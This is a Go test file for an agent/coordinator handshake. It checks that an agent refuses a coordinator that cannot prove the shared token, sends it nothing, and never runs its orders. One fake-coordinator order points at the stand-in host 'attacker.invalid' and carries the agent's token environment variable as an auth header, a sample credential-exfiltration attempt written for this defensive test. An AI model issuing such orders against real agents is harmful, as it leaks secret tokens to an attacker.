package agent

import (
	"context"
	"errors"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// waitForever bounds waits that only a broken test would reach: no test
// here depends on how fast the machine is.
const waitForever = time.Hour

// refusingRunner records whether an order ever reached it.
type refusingRunner struct{ prepared atomic.Bool }

func (r *refusingRunner) Prepare(context.Context, Order) (Prepared, error) {
	r.prepared.Store(true)
	return nil, errors.New("an order reached the runner")
}

// fakeCoordinator listens on loopback and plays a coordinator that does
// not know the agent's token: it challenges, reads the hello, answers
// with welcome(answer(hello)) followed at once by an order, and then
// hands out every byte the agent sent after its hello, once the agent has
// closed the connection.
func fakeCoordinator(t *testing.T, answer func(challenge []byte, hello Msg) []byte) (addr string, after <-chan []byte) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	out := make(chan []byte, 1)
	go func() {
		nc, err := ln.Accept()
		if err != nil {
			out <- nil
			return
		}
		defer nc.Close()
		c := newConn(nc)
		nonce := newNonce()
		if c.send(Msg{Type: msgChallenge, Version: Version, Nonce: nonce}) != nil {
			out <- nil
			return
		}
		hello, err := c.expect(msgHello)
		if err != nil {
			out <- nil
			return
		}
		_ = c.send(Msg{Type: msgWelcome, MAC: answer(nonce, hello)})
		_ = c.send(Msg{Type: msgOrder, Run: 1, Order: &Order{Spec: "target: {type: http, base_url: 'http://attacker.invalid', auth_header_env: HEADROOM_AGENT_TOKEN}"}})
		// Its side ends here, so that an agent that took the order ends
		// its session too (and the test fails rather than hangs).
		_ = nc.(*net.TCPConn).CloseWrite()
		// Everything that follows the hello, buffered or not yet read.
		rest, _ := io.ReadAll(c.r)
		out <- rest
	}()
	return ln.Addr().String(), out
}

// An agent facing a coordinator that cannot prove the token refuses it in
// one sentence naming the address, sends it nothing after its hello, and
// never runs the order that follows, whatever the coordinator answered.
func TestAgentRefusesACoordinatorWithoutItsToken(t *testing.T) {
	other := []byte("a-token-the-agent-does-not-share-0123")
	answers := map[string]func(challenge []byte, hello Msg) []byte{
		"no proof": func([]byte, Msg) []byte { return nil },
		"another token": func(ch []byte, h Msg) []byte {
			return proof(other, roleCoordinator, ch, h.Nonce, h.Name)
		},
		// The agent's own proof sent back: the role in the proof tells
		// them apart.
		"the agent's proof reflected": func(_ []byte, h Msg) []byte { return h.MAC },
		// An agent-role proof over the swapped nonces, as if the fake
		// had made the agent compute it.
		"an agent's proof of its nonces": func(ch []byte, h Msg) []byte {
			return proof(testToken, roleAgent, ch, h.Nonce, h.Name)
		},
	}
	for what, answer := range answers {
		t.Run(what, func(t *testing.T) {
			addr, after := fakeCoordinator(t, answer)
			nc, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			r := &refusingRunner{}
			err = Serve(context.Background(), nc, "a1", testToken, r, t.Logf)
			nc.Close() // as `headroom agent` does when Serve returns
			var ue *UnprovenError
			if !errors.As(err, &ue) {
				t.Fatalf("Serve: %v; want the coordinator refused as unproven", err)
			}
			msg := err.Error()
			for _, want := range []string{"agent a1 refused the coordinator at " + addr, "it does not know this agent's token", "--connect", "same token"} {
				if !strings.Contains(msg, want) {
					t.Errorf("refusal %q lacks %q", msg, want)
				}
			}
			if strings.Contains(msg, string(testToken)) || strings.Count(msg, ". ") > 0 {
				t.Errorf("refusal %q shows the token or is more than one sentence", msg)
			}
			if rest := <-after; len(rest) != 0 {
				t.Errorf("the agent sent %d bytes after its hello to a coordinator without its token: %q", len(rest), rest)
			}
			if r.prepared.Load() {
				t.Error("the agent ran an order of a coordinator without its token")
			}
		})
	}
}

// The coordinator refuses a hello without the agent's own nonce (an
// agent of the first protocol with its version forged): the coordinator's
// proof would otherwise cover no fresh value of the agent's.
func TestCoordinatorRefusesAHelloWithoutANonce(t *testing.T) {
	rc, ch := rawSession(t)
	_ = rc.send(Msg{Type: msgHello, Version: Version, Name: "a1", MAC: proof(testToken, roleAgent, nil, ch.Nonce, "a1")})
	m, err := rc.recv()
	if err != nil || m.Type != msgError || !strings.Contains(m.Error, `agent "a1"`) || !strings.Contains(m.Error, "sent no 32-byte nonce") {
		t.Errorf("hello without a nonce: got %+v, %v", m, err)
	}
}

// With the same token both sides prove it, and the agent's session
// starts: the welcome it checks is the coordinator's proof.
func TestMutualProofAdmitsTheAgent(t *testing.T) {
	co, err := Listen("127.0.0.1:0", testToken)
	if err != nil {
		t.Fatal(err)
	}
	done := dial(t, context.Background(), co, "a1", testToken, &refusingRunner{})
	if err := co.Wait(context.Background(), []string{"a1"}, waitForever, nil); err != nil {
		t.Fatal(err)
	}
	co.Close() // bye
	if err := <-done; err != nil {
		t.Errorf("agent after bye: %v", err)
	}
}

// rawSession starts a coordinator, connects to it without an agent's
// side of the handshake and reads its challenge, for tests that speak the
// protocol by hand. Both ends close when the test ends.
func rawSession(t *testing.T) (*conn, Msg) {
	t.Helper()
	co, err := Listen("127.0.0.1:0", testToken)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { co.Close() })
	raw, err := net.Dial("tcp", co.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { raw.Close() })
	rc := newConn(raw)
	ch, err := rc.expect(msgChallenge)
	if err != nil {
		t.Fatal(err)
	}
	return rc, ch
}
